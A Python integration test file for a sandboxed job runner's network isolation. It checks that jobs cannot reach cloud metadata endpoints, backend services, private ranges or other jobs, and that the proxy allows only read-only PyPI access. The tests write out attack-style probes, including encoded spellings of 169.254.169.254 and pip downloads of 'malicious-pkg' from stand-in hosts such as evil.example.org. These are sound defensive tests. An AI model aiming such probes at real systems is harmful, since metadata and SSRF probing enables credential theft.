"""Network isolation through the public path (ATTACKS.md A19-A22, A31; the security design's
rows for the metadata endpoint, ``psql -h db-host`` and ``pip install malicious-pkg``).

Every probe is a real job, submitted with the client to a real ``airlock worker`` that has
egress enabled (conftest.py) and judged by its stored result. Targets are stand-ins this
machine owns (scripts/standins.sh), each counting its contacts: after every test, every
stand-in must have counted zero. The allowlisted reads through the proxy, its point, go to the
PyPI stand-in (pypi_standin.py), which the proxy resolves the registries' names to: no test
sends anything to a real address.

Outcomes to expect: a refused connection fails at once (the firewall answers TCP with a reset,
the rest with ICMP "prohibited"); a name lookup fails in about a second (no resolver answers:
workers/networks.py); the proxy answers what it refuses with a readable 403.
"""

from __future__ import annotations

import base64
import json
import os
import subprocess
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from airlock.client import Airlock
from config.settings import Settings
from tasks.egress import network_plans
from tests.network import probes
from tests.network.conftest import (
    FIREWALL,
    TENANT_ENDPOINT,
    PyPI,
    RunEgress,
    Standins,
    proxy_log,
    sh,
    worker_env_for,
)
from tests.services import WorkerProcess, wait_no_containers

pytestmark = [pytest.mark.network, pytest.mark.integration]

FAST_S = 5.0  # a refusal, as the job sees it; a lookup takes about 1 s
REFUSED = "Airlock egress proxy refused"
HOST_PORTS = (22, 2375, 5432, 5555, 6379)
FLOWER_PASSWORD = "network-test-password"  # a test value, never a real secret


MEASURED: dict[str, dict[str, Any]] = {}  # test -> probe -> outcome: artifacts/network.json


@pytest.fixture(scope="module", autouse=True)
def measured(artifacts: Path) -> Iterator[None]:
    yield
    (artifacts / "network.json").write_text(json.dumps(MEASURED, indent=1, sort_keys=True))


@pytest.fixture(autouse=True)
def zero_hits(standins: Standins, egress_settings: Settings) -> Iterator[None]:
    """Every test starts from zero hits and must end there, with no job container left."""
    standins.reset()
    yield
    counted = {name: n for name, n in standins.hits().items() if n}
    assert not counted, f"stand-ins were reached: {counted}"
    left = wait_no_containers(egress_settings.fleet, timeout=15)
    assert not left, f"job containers left behind: {[c['Id'] for c in left]}"


def probe(run: RunEgress, *parts: tuple[str, dict[str, Any]], network: str = "egress",
          timeout_s: float = 60) -> dict[str, Any]:
    """Run probes (source, arguments) one after the other in one job; their merged report."""
    code = "\n".join(probes.job_code(source, **args) for source, args in parts)
    record = run(code, network=network, limits={"timeout_s": timeout_s})
    assert record.verdict == "ok", record.summary()
    report = probes.report(record.stdout)
    assert report, record.summary()
    test = os.environ.get("PYTEST_CURRENT_TEST", "?").split("::")[-1].split(" ")[0]
    MEASURED.setdefault(test, {}).update(report)
    return report


def refused_fast(results: dict[str, dict[str, Any]]) -> None:
    reached = {k: v for k, v in results.items() if v["outcome"] in ("connected", "answered")}
    assert not reached, f"reached: {reached}"
    slow = {k: v for k, v in results.items() if v["s"] > FAST_S}
    assert not slow, f"refused, but slowly: {slow}"


def proxy_refused(results: dict[str, dict[str, Any]], says: dict[str, str]) -> None:
    """Each request was refused by the proxy with a 403 whose text says why, at once."""
    wrong = {label: result for label, result in results.items()
             if result["status"] != 403 or REFUSED not in result["body"]
             or says[label] not in result["body"] or result["s"] > FAST_S}
    assert not wrong, json.dumps(wrong, indent=1)


def tcp_targets(hosts: list[tuple[str, str]], ports: tuple[int, ...]) -> list[list[Any]]:
    return [[f"{name}:{port}", addr, port] for name, addr in hosts for port in ports]


# --- no egress -----------------------------------------------------------------------------

def test_a_job_without_egress_has_loopback_only(run_egress: RunEgress, standins: Standins,
                                                egress_settings: Settings) -> None:
    # Given a job that does not ask for egress, on a worker that has it enabled
    gateway = network_plans(egress_settings)[1].gateway
    targets = [["metadata", "169.254.169.254", 80], ["private-10", "10.99.0.10", 80],
               ["gateway", gateway, 5432], ["proxy", egress_settings.egress.proxy_ip, 3128]]
    got = probe(run_egress, (probes.INTERFACES, {"targets": targets}), network="none")
    # Then it sees loopback only, no route, and every connect fails at once
    assert got["interfaces"] == ["lo"] and got["ipv4_routes"] == 0, got
    assert all("Network is unreachable" in c["outcome"] for c in got["connects"].values()), got


def test_egress_is_refused_where_it_is_not_enabled(client: Airlock, worker: WorkerProcess) -> None:
    # Given the session's ordinary worker (egress_enabled false), when a job asks for egress
    record = client.submit({"code": "print('out')", "network": "egress"}).wait(60)
    # Then it ends with an error verdict that says why, and it never ran
    assert record.verdict == "error", record.summary()
    assert "egress is not enabled" in (record.error or ""), record.error
    assert record.container_id is None and record.stdout == ""


def test_the_worker_verified_the_firewall_and_ran_the_network_canary(
        egress_worker: WorkerProcess) -> None:
    # The egress worker's preflight: verify.sh passed, and a job on the workspace network
    # reached the proxy and none of the metadata, private or host targets
    log = egress_worker.log()
    assert "egress_blocked ok" in log and "every rule in place" in log, log[-3000:]


# --- A19: metadata --------------------------------------------------------------------------

def test_curl_http_169_254_169_254_is_blocked(run_egress: RunEgress, standins: Standins) -> None:
    """The security design's row: ``curl http://169.254.169.254/`` → blocked (A19), in every
    spelling, directly and through the proxy, and the other clouds' metadata addresses."""
    direct = [[f"direct:{form}", form, port] for form in probes.METADATA_FORMS for port in (80, 443)]
    direct += [[f"direct:{name}", standins.named(name), 80]
               for name in ("ecs-metadata", "alibaba-metadata", "azure-wireserver", "metadata-v6")]
    via_proxy = {f"proxy:{form}": f"http://{form}/latest/meta-data/"
                 for form in ("169.254.169.254", "2852039166", "0xA9FEA9FE", "0251.0376.0251.0376",
                              "[::ffff:169.254.169.254]", "169.254.170.2", "100.100.100.200",
                              "168.63.129.16")}
    got = probe(run_egress, (probes.TCP_CONNECT, {"targets": direct}),
                (probes.PROXY_REQUEST, {"requests": [[k, "GET", url] for k, url in via_proxy.items()],
                                        "timeout": 10}),
                (probes.PROXY_REQUEST, {"requests": [["proxy:metadata.google.internal", "GET",
                                                      "http://metadata.google.internal/"]]}))
    refused_fast({k: v for k, v in got.items() if k.startswith("direct:")})
    assert got["direct:2852039166"].get("address") == "169.254.169.254"  # the form resolved
    says = {k: "IP addresses are not allowed" for k in via_proxy}
    says["proxy:metadata.google.internal"] = "is not on the egress allowlist"
    proxy_refused({k: v for k, v in got.items() if k.startswith("proxy:")}, says)


# --- A20, A31: the control plane ------------------------------------------------------------

def test_psql_h_db_host_is_unreachable(run_egress: RunEgress, standins: Standins,
                                      egress_settings: Settings) -> None:
    """The security design's row: ``psql -h db-host`` → no link to the backend (A20): every
    host address (the bridge gateways among them) on 5432, 6379, 5555, 2375 and 22, the
    backend subnet, and the service names, directly and through the proxy."""
    backend, workspace, _ = network_plans(egress_settings)
    on_host = [[name, addr, port] for name, addr, port in standins.on_host()]
    assert any(addr == workspace.gateway for _, addr, _ in on_host), "no stand-in on the gateway"
    on_host += tcp_targets([("backend-gateway", backend.gateway)], HOST_PORTS)
    names = [[f"{n}:{p}", n, p] for n, p in (("db-host", 5432), ("postgres", 5432),
                                             ("redis", 6379), ("flower", 5555), ("docker", 2375))]
    got = probe(run_egress, (probes.TCP_CONNECT, {"targets": on_host + names}),
                (probes.PROXY_REQUEST, {"requests": [
                    ["proxy:db-host", "GET", "http://db-host:5432/"],
                    ["proxy:postgres", "GET", "http://postgres/"],
                    ["proxy:gateway", "GET", f"http://{workspace.gateway}:5432/"]]}))
    refused_fast({k: v for k, v in got.items() if not k.startswith("proxy:")})
    assert all(got[name]["outcome"] == "unresolved" for name, *_ in names), got
    proxy_refused({k: v for k, v in got.items() if k.startswith("proxy:")}, {
        "proxy:db-host": "Only ports 80 and 443", "proxy:postgres": "is not on the egress allowlist",
        "proxy:gateway": "IP addresses are not allowed"})


@pytest.fixture
def flower_everywhere(egress_settings: Settings, artifacts: Path) -> Iterator[int]:
    """A real ``airlock flower`` listening on every host address, with a password."""
    from tests.ops.conftest import free_port, start_flower, wait_http

    port = free_port()
    proc = start_flower(egress_settings, artifacts / f"flower-{egress_settings.fleet}.log", port,
                        AIRLOCK_FLOWER_ADDRESS="0.0.0.0", AIRLOCK_FLOWER_USER="ops",
                        AIRLOCK_FLOWER_PASSWORD=FLOWER_PASSWORD)
    try:
        wait_http(f"http://127.0.0.1:{port}/healthcheck", proc)
        yield port
    finally:
        os.killpg(proc.pid, 15)
        proc.wait(15)


def test_a31_flower_is_unreachable_from_jobs_and_asks_everyone_else_to_log_in(
        run_egress: RunEgress, standins: Standins, flower_everywhere: int) -> None:
    port = flower_everywhere
    addresses = sorted({addr for _, addr, _ in standins.on_host()})
    got = probe(run_egress, (probes.TCP_CONNECT, {"targets": [
        [f"{addr}:{p}", addr, p] for addr in addresses for p in (port, 5555)]}))
    refused_fast(got)
    # From the host, on an address jobs would see: a login is required, and suffices
    url = f"http://{next(a for a in addresses if ':' not in a)}:{port}/workers"
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(url, timeout=5)
    refused.value.close()
    assert refused.value.code == 401
    login = base64.b64encode(f"ops:{FLOWER_PASSWORD}".encode()).decode()
    with urllib.request.urlopen(urllib.request.Request(
            url, headers={"Authorization": f"Basic {login}"}), timeout=5) as answered:
        assert answered.status == 200


# --- A21: private ranges and other jobs ------------------------------------------------------

def test_a21_private_ranges_are_unreachable(run_egress: RunEgress, standins: Standins) -> None:
    hosts = [(n, a) for n, a in standins.in_namespace() if "metadata" not in n]
    assert {"private-10", "private-172", "private-192", "cgnat-100-64", "ula-v6"} <= dict(hosts).keys()
    got = probe(run_egress,
                (probes.TCP_CONNECT, {"targets": tcp_targets(hosts, (22, 53, 80, 443, 5432, 8080))}),
                (probes.UDP_SEND, {"targets": [[f"udp:{n}", a] for n, a in hosts]}))
    refused_fast(got)


def test_a21_a_second_job_on_the_same_network_is_unreachable(
        run_egress: RunEgress, egress_client: Airlock, egress_settings: Settings) -> None:
    # Given a job with egress that listens on its workspace address
    listener = egress_client.submit({
        "code": probes.job_code(probes.OWN_ADDRESS, via=egress_settings.egress.proxy_ip)
        + "\n" + probes.job_code(probes.PEER_LISTEN, port=8000, seconds=6),
        "network": "egress"})
    address, seen = "", b""
    for event in listener.events():  # live output: the listener is still running
        seen += event.data if event.kind == "stdout" else b""
        line = next((x for x in seen.split(b"\n")[:-1] if x.startswith(b"address ")), b"")
        if line:
            address = line.decode().split()[1]
            break
    assert address.startswith("172.29."), listener.wait(30).summary()
    # When a second job, running at the same time, connects to it
    code = "\n".join([probes.job_code(probes.TCP_CONNECT, targets=[["peer", address, 8000]]),
                      probes.job_code(probes.UDP_SEND, targets=[["peer-udp", address]])])
    second = run_egress(code)
    got = probes.report(second.stdout)
    # Then it is refused at once and the listener, still listening then, saw nothing
    refused_fast(got)
    first = listener.wait(60)
    assert first.verdict == "ok" and probes.report(first.stdout) == {"accepted": 0}, first.summary()
    assert second.finished_at and first.finished_at and second.finished_at < first.finished_at
    MEASURED["test_a21_a_second_job_on_the_same_network_is_unreachable"] = got


# --- A22: the way out is the proxy, and only to the allowlist --------------------------------

def test_a22_a_direct_connection_without_the_proxy_fails(run_egress: RunEgress,
                                                         standins: Standins) -> None:
    internet = standins.named("internet")
    names = ["pypi.org", "files.pythonhosted.org", "example.com", "metadata.google.internal"]
    got = probe(run_egress,
                (probes.TCP_CONNECT, {"targets": [["internet:443", internet, 443],
                                                  ["internet:80", internet, 80],
                                                  ["pypi.org:443", "pypi.org", 443]]}),
                (probes.UDP_SEND, {"targets": [["internet:53", internet]]}),
                (probes.DNS_LOOKUP, {"names": names}))
    refused_fast({k: v for k, v in got.items() if k not in names})
    lookups = {name: got[name] for name in names}
    assert all(r["outcome"] == "failed" and r["s"] < 3 for r in lookups.values()), lookups


def test_a_domain_not_on_the_allowlist_fails_fast_with_a_clear_message(
        run_egress: RunEgress) -> None:
    got = probe(run_egress, (probes.PROXY_REQUEST, {"requests": [
        ["https", "GET", "https://example.com/"], ["http", "GET", "http://example.com/"],
        ["subdomain", "GET", "https://evil.pypi.org.example.net/simple/"]]}))
    proxy_refused(got, dict.fromkeys(got, "is not on the egress allowlist"))
    # The message lists what is allowed, the tenant endpoints merged in
    assert "Allowed: pypi.org files.pythonhosted.org" in got["https"]["body"]
    assert TENANT_ENDPOINT in got["https"]["body"], got["https"]["body"]


def test_a22_odd_ports_ip_literals_and_uploads_are_refused(run_egress: RunEgress) -> None:
    cases = {
        "port-8080": ("GET", "http://pypi.org:8080/", "Only ports 80 and 443"),
        "tls-port-8443": ("GET", "https://pypi.org:8443/", "Only ports 80 and 443"),
        "ip-literal": ("GET", "http://10.99.0.10/", "IP addresses are not allowed"),
        "post-pypi": ("POST", "https://pypi.org/simple/", "read-only"),
        "put-npm": ("PUT", "https://registry.npmjs.org/airlock-probe", "read-only"),
        "delete-npm": ("DELETE", "https://registry.npmjs.org/-/package/six/-rev/1", "read-only"),
    }
    got = probe(run_egress, (probes.PROXY_REQUEST, {
        "requests": [[label, method, url] for label, (method, url, _) in cases.items()]}))
    proxy_refused(got, {label: says for label, (_, _, says) in cases.items()})


# Runs ARGS["argv"]; reports its exit status, time, output tail and the lines with ARGS["grep"].
PIP = r'''
import json, subprocess, sys, time
start = time.monotonic()
done = subprocess.run(ARGS["argv"], capture_output=True, text=True, timeout=ARGS.get("timeout", 90))
out = done.stdout + done.stderr
grep = [line for line in out.splitlines() if any(w in line for w in ARGS.get("grep", ()))]
print(json.dumps({ARGS["label"]: {"returncode": done.returncode, "s": time.monotonic() - start,
                                  "out": out[-1500:], "grep": grep[:5]}}))
'''


# The job's own proxy credential: the user name in its proxy URL (HTTPS_PROXY).
PROXY_USER = r'''
import json, os, urllib.parse
print(json.dumps({"proxy_user": urllib.parse.urlsplit(os.environ["HTTPS_PROXY"]).username}))
'''


def test_pip_install_from_pypi_works_through_the_proxy(
        run_egress: RunEgress, pypi: PyPI, egress_settings: Settings) -> None:
    """pip installs from "PyPI" (the stand-in the proxy resolves pypi.org and
    files.pythonhosted.org to, over TLS the proxy verifies), authenticated to the proxy by the
    job's credential in its proxy URL; the same pip without the credential is refused."""
    pypi.reset()
    since = time.time()
    # Given a job with egress: a venv at /opt/venv, then pip install from PyPI
    venv = ["python3", "-m", "venv", "--without-pip", "/opt/venv"]
    project = pypi.package.replace("_", "-")
    # Debian's pip (/usr/bin/python3's) installs into the venv: "python3" is the venv's now
    install = ["/usr/bin/python3", "-m", "pip", "--python", "/opt/venv/bin/python", "install",
               "--no-cache-dir", "--progress-bar", "off", "--disable-pip-version-check",
               f"{project}=={pypi.version}"]
    use = ["/opt/venv/bin/python", "-c",
           f"import {pypi.package} as p; print(p.__version__, p.__file__)"]
    # pip with a proxy URL without the credential (every proxy variable pip reads)
    bare = f"http://{egress_settings.egress.proxy_ip}:{egress_settings.egress.proxy_port}"
    anonymous = ["env", *[f"{name}={bare}" for name in ("HTTPS_PROXY", "https_proxy", "HTTP_PROXY",
                                                         "http_proxy", "PIP_PROXY")],
                 "/usr/bin/python3", "-m", "pip", "download", "-vvv", "--no-cache-dir", "--no-deps",
                 "--disable-pip-version-check", "-d", "/tmp/anon", "--retries", "0",
                 "--timeout", "5", f"{project}=={pypi.version}"]
    got = probe(run_egress, (PROXY_USER, {}), (PIP, {"label": "venv", "argv": venv}),
                (PIP, {"label": "install", "argv": install}),
                (PIP, {"label": "use", "argv": use}),
                (PIP, {"label": "anonymous", "argv": anonymous,
                       "grep": ["407 Proxy Authentication Required"]}), timeout_s=120)
    # Then the package came through the proxy and imports from /opt/venv
    assert got["install"]["returncode"] == 0, got["install"]["out"]
    assert got["use"]["out"].startswith(f"{pypi.version} /opt/venv/"), got
    # from the stand-in: the index on pypi.org, the wheel on files.pythonhosted.org
    seen = [(r["method"], r["host"], r["path"], r["status"]) for r in pypi.requests()]
    wheel = f"{pypi.package}-{pypi.version}-py3-none-any.whl"
    assert ("GET", "pypi.org", f"/simple/{project}/", 200) in seen, seen
    assert ("GET", "files.pythonhosted.org", f"/packages/{wheel}", 200) in seen, seen
    # and pip authenticated to the proxy with the job's credential, for both names
    user = got["proxy_user"]
    assert user, got
    log = proxy_log(since)
    mine = {(f[5], f[6].split("/")[2] if "://" in f[6] else f[6]) for f in log
            if f[7] == user and f[3].endswith("/200")}
    assert {("CONNECT", "pypi.org:443"), ("GET", "pypi.org"),
            ("CONNECT", "files.pythonhosted.org:443"), ("GET", "files.pythonhosted.org")} <= mine, log
    # Without the credential, the proxy asks for it (407) and pip gets nothing
    assert got["anonymous"]["returncode"] != 0 and got["anonymous"]["grep"], got["anonymous"]
    assert any(f[3].endswith("/407") and f[7] == "-" for f in log), log


def test_pip_install_malicious_pkg_only_pypi_is_allowed(run_egress: RunEgress, pypi: PyPI) -> None:
    """The security design's row: ``pip install malicious-pkg`` → only PyPI is allowed: an
    index elsewhere is refused, and nothing can be uploaded to the registries."""
    pypi.reset()
    pip = ["python3", "-m", "pip", "download", "-vvv", "--no-cache-dir", "--no-deps", "-d", "/tmp/dl",
           "--retries", "0", "--timeout", "5"]
    got = probe(run_egress,
                (PIP, {"label": "other-index", "argv": [
                    *pip, "--index-url", "https://packages.evil-mirror.example/simple/",
                    "malicious-pkg"], "grep": ["403 Client Error: Forbidden"]}),
                (PIP, {"label": "direct-url", "argv": [
                    *pip, "https://evil.example.org/malicious_pkg-1.0-py3-none-any.whl"],
                    "grep": ["403 Client Error: Forbidden"]}),
                (probes.PROXY_REQUEST, {"requests": [
                    ["upload-pypi", "POST", "https://upload.pypi.org/legacy/"],
                    ["upload-pypi-root", "POST", "https://pypi.org/legacy/"],
                    ["publish-npm", "PUT", "https://registry.npmjs.org/malicious-pkg"]]}))
    for label in ("other-index", "direct-url"):
        result = got[label]
        assert result["returncode"] != 0 and result["s"] < 15, result
        assert result["grep"], result["out"]  # pip says the proxy answered 403 Forbidden
    proxy_refused({k: got[k] for k in ("upload-pypi", "upload-pypi-root", "publish-npm")}, {
        "upload-pypi": "is not on the egress allowlist", "upload-pypi-root": "read-only",
        "publish-npm": "read-only"})
    # The proxy refused the writes itself: not one reached the registries (their stand-in)
    assert pypi.requests() == [], pypi.requests()


# --- the worker's start ---------------------------------------------------------------------

def test_an_egress_worker_refuses_to_start_while_a_firewall_rule_is_missing(
        egress_settings: Settings, egress_worker: WorkerProcess, artifacts: Path) -> None:
    # Given one rule deleted by hand (the metadata range: the catch-all rule behind it would
    # still refuse the traffic, so only verify.sh can notice)
    rule = ["AIRLOCK-EGRESS", "-s", egress_settings.egress.workspace_subnet, "-d", "169.254.0.0/16",
            "-m", "comment", "--comment", "airlock:ws-to-169.254.0.0_16", "-j", "AIRLOCK-REJECT"]
    s = egress_settings.but(**{"fleet": f"{egress_settings.fleet}-x",
                                           "queue": f"{egress_settings.queue}-x"})
    proc = WorkerProcess(s, artifacts / f"worker-{s.fleet}.log", **worker_env_for(s))
    subprocess.run(["iptables", "-D", *rule], check=True)
    try:
        # When a worker with egress starts, then it refuses, naming the missing rule
        with pytest.raises(RuntimeError) as refused:
            proc.start(timeout=90)
    finally:
        proc.stop()
        assert sh(str(FIREWALL / "apply.sh")).returncode == 0
    assert "exited 3" in str(refused.value), str(refused.value)[-2000:]
    assert "refusing to start" in str(refused.value)
    assert "airlock:ws-to-169.254.0.0_16" in str(refused.value)
